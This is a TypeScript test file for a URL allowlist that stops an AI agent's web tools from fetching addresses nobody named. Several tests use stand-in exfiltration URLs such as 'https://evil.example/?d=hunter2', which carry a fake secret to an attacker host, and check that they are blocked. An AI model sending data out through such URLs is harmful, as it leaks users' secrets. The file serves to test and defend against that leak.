import { allow, createRegistry, openSession, type StateKey, strictest } from "@holdall/tool-core";
import { expect, test } from "vitest";
import { playHost, redirectTo, say } from "../http/hostile-server.fixture.ts";
import { webTools } from "../web-tools.ts";
import { cachedClient } from "./cached-client.ts";
import { type KnownUrlsOptions, knownUrls, urlsIn } from "./known-urls.ts";
import { openWebClient } from "./open-web-client.ts";

const html = { "content-type": "text/html" };

function open(options: KnownUrlsOptions, more: object = {}) {
  const client = cachedClient(openWebClient({ allow: ["127.0.0.0/8"], perHost: false }));
  const known = knownUrls(options);
  const registry = createRegistry(webTools({ client, ...more }));
  const policy = strictest(known.policy, allow());
  const session = openSession(registry, { policy, use: [known.middleware] });
  const fetch = async (url: string, tool = "web_fetch", input: object = {}) =>
    (await session.call(tool, { url, ...input })).ok;
  return { known, fetch, session };
}

test("only what the user or an earlier result has named is asked for", async () => {
  await using host = await playHost({
    "/": say(`<p>Read <a href="/next?page=2">the next page</a>, or see ${"x".repeat(60)}.</p>`, html),
    "/next": say("<p>Nothing more to see on this page, which is the last one of all.</p>", html),
  });
  const { fetch } = open({ texts: [`Summarise ${host.origin}/, please.`] });
  expect(await fetch(`${host.origin}/next?page=2`)).toBe(false);
  expect(await fetch(host.origin)).toBe(true);
  expect(await fetch(`${host.origin}/next?page=2#end`)).toBe(true);
  expect(await fetch(`${host.origin}/next?page=2&secret=hunter2`)).toBe(false);
  expect(await fetch(`${host.origin}/hunter2`, "fetch_url")).toBe(false);
  expect(await fetch(`${host.origin}/hunter2`, "scrape_page")).toBe(false);
  expect(host.requests.map(({ url }) => url)).toEqual(["/", "/next?page=2"]);
});

test("a model cannot name a URL by saying it to a tool", async () => {
  const evil = "https://evil.example/?d=hunter2";
  await using host = await playHost({
    "/": say("<p>A page that says very little, but long enough to be read as a page.</p>", html),
    "/echo": (request, response) => say(String(request.headers["x-note"]))(request, response),
  });
  const model = async () => `See ${evil}`;
  const { fetch, known } = open({ texts: [host.origin, `${host.origin}/echo`] }, { model });
  expect(await fetch(host.origin, "web_fetch", { find: evil })).toBe(true);
  expect(await fetch(host.origin, "web_fetch", { prompt: "where to?" })).toBe(true);
  expect(await fetch(host.origin, "scrape_page", { fields: { [evil]: "p" } })).toBe(true);
  expect(await fetch(`${host.origin}/echo`, "fetch_url", { headers: { "X-Note": evil } })).toBe(true);
  expect(known.urls().join()).not.toContain("evil");
  expect(await fetch(evil)).toBe(false);
});

test("where a redirect leads is known once it was told, search results are, and what was kept comes back", async () => {
  await using host = await playHost({ "/": redirectTo("https://elsewhere.example/x") });
  const hits = [{ title: "A", url: "https://found.example/a", snippet: "see https://found.example/b." }];
  const can = { allowed_domains: "none", blocked_domains: "none", exact_terms: "none", language: "none" } as const;
  const provider = {
    name: "own",
    url: "https://search.example/",
    can: { ...can, freshness: "none", page: "none" },
    search: async () => ({ hits }),
  } as const;
  const { session, known } = open({ texts: [host.origin] }, { search: { providers: [provider] } });
  await session.call("web_fetch", { url: host.origin });
  const searched = await session.call("web_search", { query: "https://evil.example/?d=1" });
  expect(searched.ok).toBe(true);
  const again = knownUrls();
  again.add(known.urls().join("\n"));
  expect(again.urls()).toEqual(
    expect.arrayContaining(["https://elsewhere.example/x", "https://found.example/a", "https://found.example/b"]),
  );
  expect(again.urls().join()).not.toContain("evil");
});

test("asks instead where the host wants that, trusts whole domains, and leaves other calls alone", async () => {
  const { policy } = knownUrls({ otherwise: "ask", domains: ["docs.example"] });
  const [tool] = webTools().filter(({ name }) => name === "web_fetch");
  const state = <T>(key: StateKey<T>): T => key.create();
  const evaluate = (url: string, action: "network" | "read" = "network") =>
    policy({ tool: tool!, input: { url }, access: { action, target: url }, sessionId: "s", callId: "c", state });
  expect(await evaluate("https://other.example/")).toMatchObject({
    effect: "ask",
    prompt: expect.stringContaining("mentioned"),
  });
  expect(await evaluate("https://api.docs.example/v1?q=anything")).toBeUndefined();
  expect(await evaluate("https://evildocs.example/")).toMatchObject({ effect: "ask" });
  expect(await evaluate("https://other.example/", "read")).toBeUndefined();
});

test.for([
  ["see https://a.example/b.", "https://a.example/b"],
  ["[x](https://a.example/b)[y](https://a.example/c)", "https://a.example/b"],
  ["(https://a.example/Heron_(bird))", "https://a.example/Heron_(bird)"],
  ["**https://a.example/b**", "https://a.example/b"],
  ["„https://a.example/b“, sagt er", "https://a.example/b"],
  ["look at example.com/docs?a=1, and", "https://example.com/docs?a=1"],
  ["Look at Example.com.", "https://Example.com"],
] as const)("%j names %s", ([text, url]) => {
  expect([...urlsIn(text, { bare: true })]).toContain(url);
});

test("an address in a letter, a file in a folder and a mailbox are no pages", () => {
  expect([...urlsIn("write to ada@example.com or src/index.ts", { bare: true })]).toEqual([]);
});
